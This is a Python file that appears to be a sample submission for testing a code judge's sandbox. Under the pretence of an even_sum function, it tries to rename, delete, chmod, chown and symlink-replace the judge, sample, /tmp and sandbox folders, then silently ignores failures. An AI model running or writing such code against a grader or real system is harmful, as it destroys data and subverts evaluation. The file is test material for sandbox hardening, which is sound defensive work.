# tries: removes, renames and replaces the folders that samples and judges work in
# verdict: wrong_answer
import os
import shutil


def even_sum(numbers):
    for path in ("/w/sample", "/w/judge", "/judges", "/tmp", "/opt/sandbox", "/w"):
        for do in (
            lambda: os.rename(path, path + "2"),
            lambda: os.rmdir(path),
            lambda: os.chmod(path, 0o777),
            lambda: os.chown(path, os.getuid(), -1),
            lambda: os.symlink("/tmp", path + "/sample"),
            lambda: shutil.rmtree(path),
        ):
            try:
                do()
            except OSError:
                pass
